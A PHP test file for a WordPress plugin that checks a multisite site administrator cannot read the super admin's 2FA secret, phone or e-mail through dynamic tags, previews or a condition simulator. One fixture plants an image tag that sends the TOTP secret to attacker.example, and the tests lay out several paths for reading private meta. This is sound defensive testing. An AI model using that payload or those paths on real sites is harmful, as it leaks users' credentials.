<?php
/**
 * On a network, a user's data is read only with the rights core asks for: edit_user on that user, on
 * that site (issue 36, S1 and S2).
 *
 * @package GBlocks_Pro
 */

declare( strict_types=1 );

namespace GBlocks_Pro\Tests\Multisite;

use GBlocks_Pro\Blocks\Render_Pipeline;
use GBlocks_Pro\Dynamic_Tags\Resolver;
use GBlocks_Pro\Trust\Content_Author;

/**
 * Site B's administrator (manage_options on site B, not a super admin, no unfiltered_html) tries to read
 * the super admin's private data (a 2FA secret, a phone number, the e-mail address) through dynamic tags
 * (saved, rendered on the public page, previewed) and through the condition simulator; and a user of the
 * network who is not a member of site B is refused as the simulated visitor.
 */
final class User_Data_Network_Test extends Multisite_Test_Case {

	/**
	 * The super admin of the network (the installer's user 1, an administrator of both sites).
	 */
	private const SUPER_ADMIN = 1;

	/**
	 * The private values of the super admin.
	 */
	private const SECRETS = array(
		'_two_factor_totp_key' => 'TOTPSECRET1234AB',
		'billing_phone'        => '+15550001111',
	);

	protected function setUp(): void {
		parent::setUp();
		self::forget_rendering();
	}

	protected function tearDown(): void {
		unset( $GLOBALS['post'] );
		self::forget_rendering();
		parent::tearDown();
	}

	/**
	 * What a request remembers of the content being rendered and of tag values.
	 */
	private static function forget_rendering(): void {
		Content_Author::instance()->reset();
		Render_Pipeline::instance()->reset();
		Resolver::forget();
	}

	/**
	 * On site B: the super admin's secrets stored, a published post of theirs, a site administrator
	 * logged in. Answers [ the super admin's post, the site administrator ].
	 *
	 * @return array{0: int, 1: int}
	 */
	private function site_b_with_secrets(): array {
		$this->assertTrue( is_super_admin( self::SUPER_ADMIN ) );
		$this->assertTrue( is_user_member_of_blog( self::SUPER_ADMIN, get_current_blog_id() ) );
		foreach ( self::SECRETS as $key => $value ) {
			update_user_meta( self::SUPER_ADMIN, $key, $value );
		}
		$post  = $this->create_post( array( 'post_author' => self::SUPER_ADMIN ) );
		$admin = $this->act_as_site_admin();
		$this->assertTrue( current_user_can( 'manage_options' ) );
		$this->assertFalse( current_user_can( 'unfiltered_html' ) );
		return array( $post, $admin );
	}

	/**
	 * Tags reading the super admin's data through `id:` of their post.
	 *
	 * @param int $post The super admin's post.
	 * @return string[]
	 */
	private static function tags_of( int $post ): array {
		return array(
			'{{author_meta id:' . $post . '|key:_two_factor_totp_key}}',
			'{{author_meta id:' . $post . '|key:billing_phone}}',
			'{{author_meta id:' . $post . '|key:user_email}}',
		);
	}

	/**
	 * Renders a post as its public page does, for whoever is logged in.
	 *
	 * @param int $post_id Post id.
	 */
	private function render_post( int $post_id ): string {
		self::forget_rendering();
		$post            = get_post( $post_id );
		$GLOBALS['post'] = $post; // phpcs:ignore WordPress.WP.GlobalVariablesOverride.Prohibited -- The post being rendered.
		$this->assertInstanceOf( \WP_Post::class, $post );
		setup_postdata( $post );
		return (string) apply_filters( 'the_content', $post->post_content );
	}

	/**
	 * A paragraph holding tags, each made optional so that a refused one leaves its label behind.
	 *
	 * @param string[] $tags Tags.
	 */
	private static function content( array $tags ): string {
		$inner = '';
		foreach ( $tags as $index => $tag ) {
			$inner .= ' T' . $index . '=' . str_replace( '}}', '|required:false}}', $tag );
		}
		return '<!-- wp:paragraph --><p>' . trim( $inner ) . '</p><!-- /wp:paragraph -->';
	}

	/**
	 * Simulates a tree on the current site as the current user.
	 *
	 * @param array<string, mixed> $row     The one rule.
	 * @param array<string, mixed> $context The simulated visit.
	 */
	private function simulate( array $row, array $context ): \WP_REST_Response {
		return $this->rest(
			'POST',
			'/generateblocks-pro/advanced-conditions/v1/simulate',
			array(
				'conditions' => array(
					'logic'  => 'OR',
					'groups' => array(
						array(
							'logic'      => 'AND',
							'conditions' => array( $row ),
						),
					),
				),
				'context'    => $context,
			)
		);
	}

	/**
	 * A user_meta rule on a key.
	 *
	 * @param string $key      Meta key.
	 * @param string $operator Operator.
	 * @param string $expected The comparison.
	 * @return array<string, string>
	 */
	private static function user_meta_rule( string $key, string $operator = 'contains', string $expected = 'TOTP' ): array {
		return array(
			'type'     => 'user_meta',
			'rule'     => 'custom',
			'operator' => $operator,
			'value'    => $key . '|' . $expected,
		);
	}

	public function test_core_refuses_the_site_administrator_the_super_admins_private_profile(): void {
		$this->on_site(
			$this->site_b(),
			function (): void {
				$this->site_b_with_secrets();
				$this->assertFalse( current_user_can( 'edit_user', self::SUPER_ADMIN ) );
				$this->assertStatus( 403, $this->rest( 'GET', '/wp/v2/users/' . self::SUPER_ADMIN, array( 'context' => 'edit' ) ) );
			}
		);
	}

	public function test_the_site_administrator_cannot_save_tags_reading_the_super_admins_data(): void {
		$this->on_site(
			$this->site_b(),
			function (): void {
				list( $post ) = $this->site_b_with_secrets();
				foreach ( self::tags_of( $post ) as $tag ) {
					$response = $this->rest(
						'POST',
						'/wp/v2/posts',
						array(
							'status'  => 'publish',
							'content' => self::content( array( $tag ) ),
						)
					);
					$this->assertStatus( 403, $response );
					$this->assertSame( 'gblocks_pro_forbidden_dynamic_tag', $response->get_data()['code'], $tag );
				}
				// In the super admin's own post, author_meta without id reads the super admin too.
				$response = $this->rest( 'POST', '/wp/v2/posts/' . $post, array( 'content' => self::content( array( '{{author_meta key:_two_factor_totp_key}}' ) ) ) );
				$this->assertStatus( 403, $response );
				$this->assertStringContainsString( '_two_factor_totp_key', $response->get_data()['message'] );
				// user_meta reads every future visitor, the super admin included.
				$response = $this->rest( 'POST', '/wp/v2/posts', array( 'content' => self::content( array( '{{user_meta key:billing_phone}}' ) ) ) );
				$this->assertStatus( 403, $response );
				$this->assertStringNotContainsString( 'TOTPSECRET', (string) get_post_field( 'post_content', $post ) );

				// What stays: the safe list of anyone, and the administrator's own data.
				update_user_meta( get_current_user_id(), 'billing_phone', '+15559990000' );
				$response = $this->rest(
					'POST',
					'/wp/v2/posts',
					array(
						'status'  => 'publish',
						'content' => self::content( array( '{{author_meta id:' . $post . '|key:display_name}}', '{{author_meta key:billing_phone}}' ) ),
					)
				);
				$this->assertStatus( 201, $response );
			}
		);
	}

	public function test_the_public_page_of_the_site_administrators_content_prints_none_of_the_super_admins_data(): void {
		$this->on_site(
			$this->site_b(),
			function (): void {
				list( $post, $admin ) = $this->site_b_with_secrets();
				update_user_meta( $admin, 'billing_phone', '+15559990000' );
				$tags = array_merge(
					self::tags_of( $post ),
					array(
						'{{author_meta id:' . $post . '|key:display_name}}',
						'{{author_meta key:billing_phone}}',
					)
				);
				// Written by trusted code (a save of the site administrator's makes these tags inert:
				// test_a_save_outside_rest_by_the_site_administrator_stores_the_tags_as_inert_text), so
				// that the render side is the one that keeps them from showing.
				wp_set_current_user( 0 );
				$page = $this->create_post(
					array(
						'post_author'  => $admin,
						'post_content' => self::content( $tags ) . '<!-- wp:paragraph --><p><img src="https://attacker.example/?v={{user_meta key:_two_factor_totp_key|required:false}}" alt=""/></p><!-- /wp:paragraph -->',
					)
				);
				$name = (string) get_the_author_meta( 'display_name', self::SUPER_ADMIN );

				foreach ( array( 0, self::SUPER_ADMIN, $admin ) as $visitor ) {
					wp_set_current_user( $visitor );
					$html = $this->render_post( $page );
					$this->assertStringContainsString( 'T0= T1= T2= T3=' . $name . ' T4=+15559990000', $html, 'visitor ' . $visitor );
					$this->assertStringNotContainsString( 'TOTPSECRET', $html, 'visitor ' . $visitor );
					$this->assertStringNotContainsString( '+15550001111', $html, 'visitor ' . $visitor );
					$this->assertStringNotContainsString( (string) get_the_author_meta( 'user_email', self::SUPER_ADMIN ), $html, 'visitor ' . $visitor );
				}

				// The super admin's own content still reads the super admin's data, and the site
				// administrator's (a super admin may edit every user), when the super admin saves it.
				wp_set_current_user( self::SUPER_ADMIN );
				$own = $this->create_post(
					array(
						'post_author'  => self::SUPER_ADMIN,
						'post_content' => self::content( array( '{{author_meta key:_two_factor_totp_key}}', '{{author_meta id:' . $page . '|key:billing_phone}}' ) ),
					)
				);
				wp_set_current_user( 0 );
				$this->assertStringContainsString( 'T0=TOTPSECRET1234AB T1=+15559990000', $this->render_post( $own ) );
			}
		);
	}

	public function test_a_save_outside_rest_by_the_site_administrator_stores_the_tags_as_inert_text(): void {
		$this->on_site(
			$this->site_b(),
			function (): void {
				list( $post ) = $this->site_b_with_secrets();
				// wp_update_post() (the classic editor, XML-RPC, quick edit) on the super admin's own post:
				// there author_meta without id reads the super admin, the reader of their own data.
				$updated = wp_update_post(
					array(
						'ID'           => $post,
						'post_content' => self::content( array( '{{author_meta key:_two_factor_totp_key}}', '{{author_meta key:billing_phone}}', '{{author_meta key:first_name}}' ) ),
					),
					true
				);
				$this->assertSame( $post, $updated );
				clean_post_cache( $post );
				$this->assertSame( self::SUPER_ADMIN, (int) get_post_field( 'post_author', $post ) );
				// A new post of theirs by wp_insert_post() (author given) is judged the same way.
				$new = $this->create_post(
					array(
						'post_author'  => self::SUPER_ADMIN,
						'post_content' => self::content( array( '{{author_meta key:_two_factor_totp_key}}' ) ),
					)
				);
				foreach ( array( 0, self::SUPER_ADMIN, get_current_user_id() ) as $visitor ) {
					wp_set_current_user( $visitor );
					foreach ( array( $post, $new ) as $page ) {
						$html = $this->render_post( $page );
						$this->assertStringNotContainsString( 'TOTPSECRET', $html, 'visitor ' . $visitor );
						$this->assertStringNotContainsString( '+15550001111', $html, 'visitor ' . $visitor );
					}
				}
				$stored = (string) get_post_field( 'post_content', $post );
				$this->assertStringNotContainsString( '{{author_meta key:_two_factor_totp_key', $stored );
				$this->assertStringNotContainsString( '{{author_meta key:billing_phone', $stored );
				$this->assertStringContainsString( '{{author_meta key:first_name|required:false}}', $stored, 'A safe key stays a tag.' );
				wp_set_current_user( 0 );
				$this->assertStringContainsString( '&#123;&#123;author_meta key:_two_factor_totp_key|required:false&#125;&#125;', $this->render_post( $post ), 'The tag shows as the text it was.' );
			}
		);
	}

	public function test_the_rest_preview_refuses_the_site_administrator_the_super_admins_data(): void {
		$this->on_site(
			$this->site_b(),
			function (): void {
				list( $post, $admin ) = $this->site_b_with_secrets();
				$own                  = $this->create_post( array( 'post_author' => $admin ) );
				$tags                 = self::tags_of( $post );
				foreach ( array( $own, $post ) as $in ) {
					$response = $this->rest(
						'POST',
						'/generateblocks-pro/v1/dynamic-tags/preview',
						array(
							'tags'   => $tags,
							'postId' => $in,
						)
					);
					$this->assertStatus( 200, $response );
					$values = (array) $response->get_data()['response']['values'];
					$errors = (array) $response->get_data()['response']['errors'];
					foreach ( $tags as $tag ) {
						$this->assertSame( '', $values[ $tag ], $tag );
						$this->assertArrayHasKey( $tag, $errors );
					}
				}
				// The keys picker offers the site administrator only the super admin's safe keys.
				$response = $this->rest(
					'GET',
					'/generateblocks-pro/v1/dynamic-tags/keys',
					array(
						'objectType' => 'user',
						'objectId'   => self::SUPER_ADMIN,
						'protected'  => true,
					)
				);
				$this->assertStatus( 200, $response );
				$keys = array_column( (array) $response->get_data()['response'], 'key' );
				$this->assertContains( 'first_name', $keys );
				$this->assertNotContains( 'billing_phone', $keys );
				$this->assertNotContains( '_two_factor_totp_key', $keys );

				// The super admin previews the same tags with their values.
				wp_set_current_user( self::SUPER_ADMIN );
				$response = $this->rest(
					'POST',
					'/generateblocks-pro/v1/dynamic-tags/preview',
					array(
						'tags'   => $tags,
						'postId' => $own,
					)
				);
				$values   = (array) $response->get_data()['response']['values'];
				$this->assertSame( 'TOTPSECRET1234AB', $values[ $tags[0] ] );
				$this->assertSame( '+15550001111', $values[ $tags[1] ] );
			}
		);
	}

	public function test_the_simulator_is_no_oracle_on_the_super_admins_meta_for_the_site_administrator(): void {
		$this->on_site(
			$this->site_b(),
			function (): void {
				list( , $admin ) = $this->site_b_with_secrets();
				foreach ( array( '_two_factor_totp_key', 'billing_phone' ) as $key ) {
					foreach ( array( 'TOTP', 'zzzz' ) as $guess ) {
						$response = $this->simulate( self::user_meta_rule( $key, 'contains', $guess ), array( 'user' => self::SUPER_ADMIN ) );
						$this->assertStatus( 403, $response );
						$this->assertSame( 'context.user', $response->get_data()['data']['field'] );
						$this->assertStringContainsString( $key, $response->get_data()['message'] );
					}
				}
				// Their own visit is decided; so is the super admin's safe first name.
				update_user_meta( $admin, 'billing_phone', '+15559990000' );
				$response = $this->simulate( self::user_meta_rule( 'billing_phone', 'contains', '999' ), array( 'user' => $admin ) );
				$this->assertStatus( 200, $response );
				$this->assertSame( 'shown', $response->get_data()['response']['result'] );
				$response = $this->simulate( self::user_meta_rule( 'first_name', 'exists', '' ), array( 'user' => self::SUPER_ADMIN ) );
				$this->assertStatus( 200, $response );

				// The super admin may read every user: decided.
				wp_set_current_user( self::SUPER_ADMIN );
				$response = $this->simulate( self::user_meta_rule( 'billing_phone', 'contains', '999' ), array( 'user' => $admin ) );
				$this->assertStatus( 200, $response );
				$this->assertSame( 'shown', $response->get_data()['response']['result'] );
			}
		);
	}

	public function test_a_network_user_who_is_not_a_member_of_the_site_is_no_simulated_visitor(): void {
		$outsider = $this->create_user( 'subscriber' );
		update_user_meta( $outsider, 'billing_phone', '+15551112222' );
		$this->on_site(
			$this->site_b(),
			function () use ( $outsider ): void {
				$this->assertFalse( is_user_member_of_blog( $outsider ) );
				foreach ( array( $this->act_as_site_admin(), self::SUPER_ADMIN ) as $caller ) {
					wp_set_current_user( $caller );
					foreach ( array( self::user_meta_rule( 'billing_phone', 'contains', '555' ), self::user_meta_rule( 'first_name', 'exists', '' ) ) as $row ) {
						$response = $this->simulate( $row, array( 'user' => $outsider ) );
						$this->assertStatus( 400, $response );
						$this->assertSame( 'context.user', $response->get_data()['data']['field'] );
					}
					$response = $this->simulate(
						array(
							'type'     => 'user_role',
							'rule'     => 'role:subscriber',
							'operator' => 'is',
							'value'    => '',
						),
						array( 'user' => (string) $outsider )
					);
					$this->assertStatus( 400, $response );
				}
				// A member is accepted (the super admin may simulate them).
				$member = $this->create_user( 'subscriber' );
				$this->assertStatus( 200, $this->simulate( self::user_meta_rule( 'first_name', 'exists', '' ), array( 'user' => $member ) ) );
			}
		);
	}
}
